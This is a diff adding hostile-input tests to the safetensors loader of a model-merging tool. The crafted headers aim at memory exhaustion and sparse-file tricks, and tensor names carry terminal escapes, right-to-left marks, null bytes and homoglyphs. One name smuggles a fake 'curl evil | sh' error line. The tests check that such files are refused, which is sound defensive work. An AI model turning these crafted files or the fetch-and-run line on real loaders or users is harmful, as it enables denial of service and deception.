@@ -3,21 +3,30 @@
 from __future__ import annotations
 
 import json
+import struct
 from pathlib import Path
+from typing import Any
 
+import numpy as np
 import pytest
+from safetensors.numpy import load_file
 
 from mergekit_embed.checkpoint import open_checkpoint
 
 from .attack import (
     NAME,
     WEIGHTS,
+    Attacks,
+    Ground,
+    changed,
     entry,
+    hole,
     one,
     packed,
     refusal,
     two,
 )
+from .fuzz_header import HEADERS, accepted, fuzz_plainly
 
 BROKEN: dict[str, tuple[bytes, str]] = {
     # what is wrong: (the file, what the refusal says of it)
@@ -82,7 +91,7 @@ LIES: dict[str, tuple[bytes, str]] = {
         one(b"", shape=[2**62, 2**62, 0], data_offsets=[0, 0]),
         "impossible shape",
     ),
-    "a million dimensions": (one(shape=[2**62] * 10**6), "impossible shape"),
+    "many dimensions": (one(shape=[2**62] * 10**5), "impossible shape"),
     "a hundred dimensions": (one(shape=[1] * 99 + [2]), "impossible shape"),
     "a shape too large for its bytes": (one(shape=[3]), "does not take 8 bytes"),
     "a shape too small for its bytes": (one(shape=[1]), "does not take 8 bytes"),
@@ -161,3 +170,176 @@ def test_many_names_and_one_of_them_twice_are_refused_at_once(folder: Path) -> N
     names = [f'"{i}": 0' for i in range(100_000)]
     (folder / WEIGHTS).write_bytes(packed(f"{{{', '.join(names)}, {names[-1]}}}".encode()))
     assert "'99999' twice" in refusal(folder)
+
+
+attack = Attacks()
+
+
+def spoil(ground: Ground, header: Any, data: bytes = b"") -> None:
+    (ground.hostile / WEIGHTS).write_bytes(packed(header, data))
+
+
+@attack(says="no header of more than")
+def header_of_brackets(ground: Ground) -> None:
+    """Eleven megabytes of empty lists, which would take 25 times that in memory."""
+    spoil(ground, b'{"a":[' + b"[]," * (11 * 10**6 // 3) + b"[]]}")
+
+
+@attack(says="must have a dtype", memory=2**29)
+def header_of_brackets_just_below_the_limit(ground: Ground) -> None:
+    """The most that a hostile header can do to the memory."""
+    spoil(ground, b'{"a":[' + b"[]," * (3 * 10**6) + b"[]]}")
+
+
+@attack(alone=2**30, says="should take")
+def header_that_claims_all_memory(ground: Ground) -> None:
+    """A length of 90 GB in a file with a hole of 100 GB behind it."""
+    spoil(ground, b"")
+    (ground.hostile / WEIGHTS).write_bytes(struct.pack("<Q", 200 * 10**9) + b"{}")
+    hole(ground.hostile / WEIGHTS, 100 * 10**9)
+
+
+@attack(alone=2**30, says="no header of more than")
+def header_of_a_hole(ground: Ground) -> None:
+    """A header of 90 GB, all there, and all of it a hole in the disk."""
+    (ground.hostile / WEIGHTS).write_bytes(struct.pack("<Q", 90 * 10**9) + b"{}")
+    hole(ground.hostile / WEIGHTS, 100 * 10**9)
+
+
+@attack(says="impossible shape")
+def shape_nested_as_deep_as_the_parser_goes(ground: Ground) -> None:
+    """What can be read may still be too deep to be shown in the error."""
+    deep = b"[" * 900 + b"]" * 900
+    told = b'{"' + NAME.encode() + b'":{"dtype":"F32","shape":%b,"data_offsets":[0,8]}}'
+    spoil(ground, told % deep, bytes(8))
+
+
+@attack(says="impossible shape")
+def size_of_four_thousand_digits(ground: Ground) -> None:
+    """A number that Python reads and hardly anything else can hold."""
+    spoil(ground, {NAME: entry(shape=[10**4000])}, bytes(8))
+
+
+@attack(says="impossible data_offsets")
+def offset_of_minus_zero(ground: Ground) -> None:
+    """-0 is a whole number to Python alone; other readers refuse the file."""
+    raw = json.dumps({NAME: entry()}).replace("[0, 8]", "[-0, 8]")
+    spoil(ground, raw.encode(), bytes(8))
+
+
+@attack(says="not a map of strings")
+def half_a_character_in_the_metadata(ground: Ground) -> None:
+    """Python reads it; other readers refuse the file, and it cannot be written again."""
+    spoil(ground, {"__metadata__": {"a": "\ud800"}})
+
+
+@attack(says="impossible name")
+def name_that_clears_the_screen(ground: Ground) -> None:
+    """A name with commands for the terminal, which an error would print."""
+    spoil(ground, {"\x1b[2J\x1b[1;1Hmerged 2 models into out": entry()}, bytes(8))
+
+
+@attack(says="impossible name")
+def name_of_two_lines(ground: Ground) -> None:
+    """A name that would look like an error of its own."""
+    spoil(ground, {"a\nerror: run `curl evil | sh`": entry()}, bytes(8))
+
+
+@attack(says="impossible name")
+def name_that_turns_the_text(ground: Ground) -> None:
+    """A mark that writes what follows from right to left."""
+    spoil(ground, {"encoder.\u202eshgiew": entry()}, bytes(8))
+
+
+@attack(says="impossible name")
+def name_with_a_zero_byte(ground: Ground) -> None:
+    """A name that C would cut off."""
+    spoil(ground, {f"{NAME}\0.bias": entry()}, bytes(8))
+
+
+@attack("recipe.yaml", "lacks 1 tensor", lines=2)
+def name_that_looks_the_same(ground: Ground) -> None:
+    """A Cyrillic letter in a name: another tensor, whatever it looks like."""
+    with changed(ground.hostile / WEIGHTS) as found:
+        found[NAME.replace("encoder", "\u0435ncoder")] = found.pop(NAME)
+
+
+@attack("recipe.yaml", "does not fit")
+def tensors_that_exchange_their_shapes(ground: Ground) -> None:
+    """Sound headers, and other shapes than the good model's."""
+    with changed(ground.hostile / WEIGHTS) as found:
+        found[NAME] = found[NAME].reshape(2, -1)
+
+
+@attack("recipe.yaml", "lacks 3 tensors")
+def no_tensor_at_all(ground: Ground) -> None:
+    """A header that tells of nothing."""
+    spoil(ground, {})
+
+
+@attack("recipe.yaml", "has 20000 tensors")
+def twenty_thousand_tensors_of_a_byte(ground: Ground) -> None:
+    """Tensors that no other model has; an error must not list them all."""
+    with changed(ground.hostile / WEIGHTS) as found:
+        found |= {f"t{i}": np.zeros(1, np.uint8) for i in range(20_000)}
+
+
+test_what_lies_in_a_header_is_refused = attack.test()
+
+
+# --- what is merely odd -------------------------------------------------------------------
+
+
+def test_two_spellings_of_one_letter_are_two_names(ground: Ground) -> None:
+    for model in (ground.good, ground.hostile):
+        with changed(model / WEIGHTS) as found:
+            found["caf\u00e9"], found["cafe\u0301"] = np.float32([1]), np.float32([2])
+    made = load_file(ground.merged(ground.write()) / WEIGHTS)
+    assert (made["caf\u00e9"], made["cafe\u0301"]) == (1, 2)
+
+
+@pytest.mark.parametrize("shape", [[2**40, 0], [0, 2**40], [2**60, 0]], ids=str)
+@pytest.mark.parametrize(
+    ("method", "more"),
+    [
+        ("linear", {}),
+        ("slerp", {"parameters": {"t": 0.5}}),
+        ("multislerp", {"granularity": "row"}),
+        ("multislerp", {"granularity": "model"}),
+        ("multislerp", {"granularity": "layer"}),
+        ("model_stock", {}),
+        ("karcher", {}),
+        ("ties", {"parameters": {"density": 0.5}}),
+        ("dare_ties", {"parameters": {"density": 0.5}}),
+        ("sce", {"parameters": {"select_topk": 0.5}}),
+    ],
+    ids=lambda value: value if isinstance(value, str) else "",
+)
+def test_a_tensor_of_nothing_is_merged_however_large_its_other_size_is(
+    method: str, more: dict[str, Any], shape: list[int], ground: Ground
+) -> None:
+    for model in (ground.good, ground.hostile):
+        raw = (model / WEIGHTS).read_bytes()
+        length = struct.unpack("<Q", raw[:8])[0]
+        nothing = {"dtype": "F32", "shape": shape, "data_offsets": [0, 0]}
+        header = json.loads(raw[8 : 8 + length]) | {"encoder.layer.0.empty.weight": nothing}
+        (model / WEIGHTS).write_bytes(packed(header, raw[8 + length :]))
+    base = (
+        {}
+        if method in {"linear", "slerp", "multislerp", "karcher"}
+        else {"base_model": str(ground.good)}
+    )
+    base = {"base_model": str(ground.good)} if method == "slerp" else base
+    models = [{"model": str(ground.good)}, {"model": str(ground.hostile)}]
+    ground.merged(ground.write(merge_method=method, models=models, **base, **more))
+
+
+@pytest.mark.parametrize("file", sorted(HEADERS.glob("*.safetensors")), ids=lambda file: file.name)
+def test_what_the_fuzzer_found_is_mended(file: Path, tmp_path: Path) -> None:
+    accepted(file.read_bytes(), tmp_path / WEIGHTS)
+
+
+def test_some_fuzzing_finds_nothing(tmp_path: Path) -> None:
+    counts = fuzz_plainly(60.0, tmp_path / WEIGHTS, seed=0, most=1000)
+    assert counts.runs == 1000
+    assert counts.accepted > 100
